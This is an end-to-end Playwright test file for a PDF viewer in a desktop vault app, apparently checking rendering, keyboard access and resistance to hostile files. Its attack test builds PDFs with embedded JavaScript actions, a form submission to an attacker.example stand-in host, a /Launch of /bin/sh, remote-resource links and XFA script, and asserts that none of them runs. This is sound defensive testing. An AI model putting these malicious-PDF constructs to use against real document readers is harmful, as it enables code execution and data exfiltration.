import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import { AxeBuilder } from '@axe-core/playwright';
import type { Locator, Page } from '@playwright/test';

import { expect, test } from '../fixtures/app.ts';
import { cyrillicPdf, drawing, firstMore, pdfOf, simplePdf } from '../fixtures/pdf.ts';
import { picture } from '../fixtures/pictures.ts';
import { ask, must } from '../fixtures/window-api.ts';
import { attach, closeView, view } from '../pages/files.ts';
import { setUp } from '../pages/first-steps.ts';
import { newCase } from '../pages/records.ts';

const weak = ['--test-weak-kdf'];
const font = readFileSync(
  join(import.meta.dirname, '../../node_modules/pdfjs-dist/standard_fonts/LiberationSans-Regular.ttf'),
);

async function open(page: Page, name: string, buffer: Buffer): Promise<Locator> {
  await attach(page, { name, mimeType: 'application/pdf', buffer });
  return view(page, name);
}

/** Size of the page that is drawn, and how many of its pixels are not white. */
const drawn = (page: Page) =>
  page.evaluate(() => {
    const canvas = document.querySelector<HTMLCanvasElement>('[role=dialog] canvas');
    if (canvas === null) return null;
    const { width, height } = canvas;
    const { data } = canvas.getContext('2d')!.getImageData(0, 0, width, height);
    let ink = 0;
    for (let at = 0; at < data.length; at += 4) if ((data[at] ?? 255) < 128) ink += 1;
    return { width, height, ink };
  });

/** What the app itself has refused, or failed at. */
const refusedSoFar = async (page: Page): Promise<unknown> =>
  (await must<readonly { code: string }[]>(page, 'session.events')).filter(({ code }) =>
    /^(bug|blocked|locked-window)/.test(code),
  );

const shown = (dialog: Locator, place: string): Locator =>
  dialog.getByRole('img', { name: new RegExp(`^${place}`) });

async function textOf(dialog: Locator): Promise<string> {
  await dialog.getByRole('button', { name: 'Show as text' }).click();
  const text = await dialog.getByRole('region', { name: 'Text of the file' }).innerText();
  await dialog.getByRole('button', { name: 'Show as page' }).click();
  return text;
}

test('a PDF is seen page by page inside the app, as a picture and as text', async ({
  launchApp,
  newProfile,
}) => {
  const app = await launchApp({ profileDir: newProfile(), args: weak });
  const { page } = app;
  await setUp(page, 'Heron', 'Coordinator');
  await newCase(page, 'Wren');

  const dialog = await open(page, 'visa.pdf', simplePdf({ texts: ['First', 'Second', 'Third'] }));
  await expect(shown(dialog, 'Page 1 of 3: visa.pdf')).toBeVisible();
  await expect.poll(async () => (await drawn(page))?.ink ?? 0).toBeGreaterThan(1000);
  await picture(page, 'pdf');
  const axe = await new AxeBuilder({ page }).setLegacyMode(true).analyze();
  expect(axe.violations.filter(({ impact }) => impact === 'serious' || impact === 'critical')).toEqual([]);
  expect(await textOf(dialog)).toBe('First');

  // By keyboard alone: the page takes the focus, and the keys are matched by their place.
  await dialog.getByRole('group', { name: /^Page 1 of 3/ }).focus();
  await page.keyboard.press('PageDown');
  await expect(dialog.getByRole('status')).toHaveText('Page 2 of 3');
  await page.keyboard.press('PageDown');
  await page.keyboard.press('PageDown');
  await expect(dialog.getByRole('status')).toHaveText('Page 3 of 3');
  await expect(dialog.getByRole('button', { name: 'Next page' })).toBeDisabled();
  expect(await textOf(dialog)).toBe('Third');
  await dialog.getByRole('button', { name: 'Previous page' }).click();
  await dialog.getByRole('button', { name: 'Previous page' }).click();
  const before = await drawn(page);
  await dialog.getByRole('group', { name: /^Page 1 of 3/ }).focus();
  await page.keyboard.press('Equal');
  await expect.poll(async () => (await drawn(page))?.width).toBeGreaterThan(before?.width ?? 0);
  await page.keyboard.press('Minus');
  await page.keyboard.press('KeyR');
  await expect
    .poll(async () => {
      const now = await drawn(page);
      return now !== null && now.height > now.width;
    })
    .toBe(true);
  await closeView(page);

  // Letters that the file brings along.
  const own = await open(page, 'own-font.pdf', cyrillicPdf(font));
  await expect.poll(async () => (await drawn(page))?.ink ?? 0).toBeGreaterThan(1000);
  expect(await textOf(own)).toBe('Привет');
  await closeView(page);

  // A scan as fax machines make it: eight white lines, shown inverted. Its decoder is a part of its own.
  const fax = pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /XObject << /X 5 0 R >> >> /Contents 4 0 R >>',
    drawing('200 0 0 100 50 50 cm /X Do'),
    {
      dictionary:
        '/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 8 >>',
      stream: Buffer.from([0xff, 0x00, 0x10, 0x01]),
    },
  ]);
  const scan = await open(page, 'scan.pdf', fax);
  await expect.poll(async () => (await drawn(page))?.ink ?? 0).toBeGreaterThan(1000);
  await scan.getByRole('button', { name: 'Show as text' }).click();
  await expect(scan).toContainText('This page has no text');
  await closeView(page);
});

test('attack: nothing in a PDF acts, and what cannot be shown says so', async ({ launchApp, newProfile }) => {
  test.setTimeout(180_000);
  const app = await launchApp({ profileDir: newProfile(), args: weak });
  const { page } = app;
  await setUp(page, 'Heron', 'Coordinator');
  await newCase(page, 'Wren');
  await page.evaluate(() => {
    Reflect.set(globalThis, 'ran', []);
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      (Reflect.get(globalThis, 'ran') as string[]).push(`${violatedDirective} ${blockedURI}`);
    });
  });
  const script =
    "/S /JavaScript /JS (globalThis.ran.push\\('pdf'\\); app.alert\\(1\\); this.submitForm\\('https://attacker.example/'\\))";
  const more = firstMore(1);
  const link = (action: string): string =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << ${action} >> >>`;
  const acting = simplePdf({
    catalogue: `/OpenAction << ${script} >> /AA << /WC << ${script} >> >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> /AcroForm << /Fields [${more + 4} 0 R] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>globalThis.ran.push('xfa')</script></xdp:xdp>) >>`,
    page: `/AA << /O << ${script} >> >> /Annots [${[0, 1, 2, 3, 4].map((n) => `${more + n} 0 R`).join(' ')}]`,
    objects: [
      link('/S /URI /URI (https://attacker.example/beacon)'),
      link('/S /Launch /F (/bin/sh)'),
      link('/S /GoToR /F (https://attacker.example/other.pdf) /D [0 /Fit]'),
      link('/S /ImportData /F (https://attacker.example/data.fdf)'),
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (typed) /Rect [10 10 100 30] /AA << /K << ${script} >> /F << ${script} >> >> >>`,
    ],
  });
  const requests = app.requests.length;
  const before = await refusedSoFar(page);
  const dialog = await open(page, 'acting.pdf', acting);
  await expect.poll(async () => (await drawn(page))?.ink ?? 0).toBeGreaterThan(1000);
  // Where the links are: all over the page.
  await shown(dialog, 'Page 1 of 1').click();
  await shown(dialog, 'Page 1 of 1').dblclick();
  expect(await dialog.locator('a, input, iframe, embed, object, svg[onload], script').count()).toBe(0);
  expect(await textOf(dialog)).toBe('Hello');
  await closeView(page);

  // A picture, a font and a file that are said to be elsewhere; a colour space with a program.
  const remote = pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /XObject << /X 5 0 R >> /ColorSpace << /C [/Separation /Spot /DeviceRGB 6 0 R] >> >> /Contents 4 0 R >>',
    drawing('/C cs 1 scn 20 20 100 100 re f /X Do'),
    '<< /Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 0 /FS /URL /F (https://attacker.example/picture) >>',
    {
      dictionary: '/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1]',
      stream: Buffer.from('{ dup 0 mul exch dup 0 mul exch 0 mul }'),
    },
  ]);
  await open(page, 'remote.pdf', remote);
  await expect.poll(async () => (await drawn(page))?.ink ?? 0).toBeGreaterThan(1000);
  await closeView(page);

  // As large as it likes to say: no more pixels than memory allows.
  await open(page, 'giant.pdf', simplePdf({ box: '0 0 2000000000 2000000000' }));
  await expect.poll(async () => (await drawn(page))?.width ?? 0).toBeGreaterThan(0);
  const giant = await drawn(page);
  expect((giant?.width ?? 0) * (giant?.height ?? 0)).toBeLessThanOrEqual(16_000_000);
  await closeView(page);

  const many = await open(
    page,
    'many.pdf',
    simplePdf({ texts: Array.from({ length: 10_000 }, (_, index) => `Page ${index + 1}`) }),
  );
  await expect(many.getByRole('status')).toHaveText('Page 1 of 10000');
  await expect(many).toContainText('Only the first 1000 pages');
  await expect.poll(async () => (await drawn(page))?.ink ?? 0).toBeGreaterThan(1000);
  await closeView(page);

  // Damaged: made good where it can be, else said in words. Never an empty dialog.
  const repaired = await open(page, 'xref.pdf', simplePdf({ trailer: { startsAt: 7 } }));
  await expect.poll(async () => (await drawn(page))?.ink ?? 0).toBeGreaterThan(1000);
  expect(await textOf(repaired)).toBe('Hello');
  await closeView(page);
  const zeros = '0'.repeat(64);
  const refused = [
    ['nothing.pdf', Buffer.from('%PDF-1.7\n'), "can't be shown: it is damaged"],
    ['noise.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(100_000, 0xa7)]), 'it is damaged'],
    [
      'circle.pdf',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [2 0 R] >>']),
      'it is damaged',
    ],
    [
      'locked.pdf',
      simplePdf({
        objects: [`<< /Filter /Standard /V 1 /R 2 /P -4 /O <${zeros}> /U <${zeros}> >>`],
        trailer: { more: `/Encrypt ${more} 0 R /ID [<00> <00>]` },
      }),
      'locked with a password',
    ],
  ] as const;
  for (const [name, bytes, words] of refused) {
    await expect(await open(page, name, bytes)).toContainText(words);
    await expect(page.getByRole('dialog')).toContainText('You can save it outside the vault');
    await closeView(page);
  }

  expect(await page.evaluate(() => Reflect.get(globalThis, 'ran') as unknown)).toEqual([]);
  const since = app.requests.slice(requests);
  expect(since.filter(({ url }) => !url.startsWith('app://local/'))).toEqual([]);
  expect(since.filter(({ kind, outcome }) => kind !== 'request' || outcome !== 'served')).toEqual([]);
  expect(await refusedSoFar(page)).toEqual(before);
});

test('a window that a file makes hang is ended, and the lock screen says so', async ({
  launchApp,
  newProfile,
}) => {
  const app = await launchApp({ profileDir: newProfile(), args: weak });
  await setUp(app.page, 'Heron', 'Coordinator');
  expect(await ask(app.page, 'session.watch', { seconds: 61 })).toMatchObject({ ok: false });
  const replaced = app.nextPage();
  await must(app.page, 'session.watch', { seconds: 2 });
  // Busy for ever, as a loop in a reader of files would be.
  await app.page.evaluate(() => {
    setTimeout(() => {
      for (;;);
    });
  });
  const page = await replaced;
  await expect(page.getByText('The window stopped answering and was ended.')).toBeVisible();
  expect(await app.vaultPid()).toBeNull();
});
